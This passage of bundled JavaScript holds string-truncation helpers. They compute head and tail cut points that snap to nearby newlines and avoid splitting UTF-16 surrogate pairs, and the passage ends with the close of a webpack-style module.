    for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1))
        n++;
    return text.endsWith("\n") ? n : n + 1;
}
/** End index of the head: at most `limit`, moved back to just after a newline in the last fifth of the
 * window when there is one, and never between the halves of a surrogate pair. */
function cutHead(text, limit) {
    let end = Math.min(limit, text.length);
    const nl = text.lastIndexOf("\n", end - 1);
    if (nl >= 0 && nl + 1 >= end - Math.floor(limit / 5))
        end = nl + 1;
    if (end > 0 && end < text.length && isHighSurrogate(text.charCodeAt(end - 1)))
        end--;
    return end;
}
/** Start index of the tail: at least `start`, moved forward to just after a newline in the first fifth of
 * the window when there is one, and never between the halves of a surrogate pair. */
function cutTail(text, start) {
    let begin = Math.max(0, start);
    const windowChars = text.length - begin;
    const nl = text.indexOf("\n", begin);
    if (nl >= 0 && nl + 1 <= begin + Math.floor(windowChars / 5))
        begin = nl + 1;
    if (begin > 0 && begin < text.length && isLowSurrogate(text.charCodeAt(begin)))
        begin++;
    return begin;
}
function isHighSurrogate(code) {
    return code >= 0xd800 && code <= 0xdbff;
}
function isLowSurrogate(code) {
    return code >= 0xdc00 && code <= 0xdfff;
}


/***/ })

};
